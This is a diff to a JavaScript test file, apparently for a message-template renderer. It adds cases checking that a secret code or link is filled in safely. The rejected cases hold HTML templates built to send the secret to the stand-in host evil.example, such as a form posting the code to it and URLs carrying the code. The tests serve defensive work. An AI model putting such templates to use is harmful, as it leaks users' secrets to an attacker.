@@ -24,6 +24,7 @@ test.each([
   '<!doctype html><html><head><title>{{realm}}</title></head><body><td>a/b</td><td>{{code}}</td></body></html>',
   '<p>Your code:<br><b>{{code}}</b></p>',
   '<p>({{link}})</p><p>&lt;{{link}}&gt;</p>',
+  '<select><option>x</option></select>{{code}}<article>a/b</article><section>{{code}}</section>',
 ])('fills the secret in text and in the href of a link: %s', async (body) => {
   expect(await placementFault(body)).toBeUndefined();
   expect(await rendered(body)).toContain('SECRET');
@@ -81,7 +82,14 @@ test.each([
   '<p>{{code}}.evil.example</p>',
   '<p>{{code}}@evil.example</p>',
   '<p>https://evil.example/?<b>{{code}}</b></p>',
+  '<p>evil.example/<label>{{code}}</label></p>',
+  '<p>evil.example/<x-own>{{code}}</x-own></p>',
+  '<p>evil.example/<img src="data:,">{{code}}</p>',
   '<p>https:&#47;&#47;evil.example/?{{code}}</p>',
+  // What a form sends.
+  '<form action="https://evil.example/"><select name=c><option selected>{{code}}</option></select><button>Go</button></form>',
+  '<select><option><b>{{link}}</b></select>',
+  '<input list=l><datalist id=l><option>{{code}}</datalist>',
   '<p>&#123;{code}} &#123;{code}} https://evil.example/?{{code}}</p>',
   `<p>https://evil.example/${'a'.repeat(3000)}{{link}}</p>`,
 ])('leaves it out where it would be told to another host or could be: %s', async (body) => {
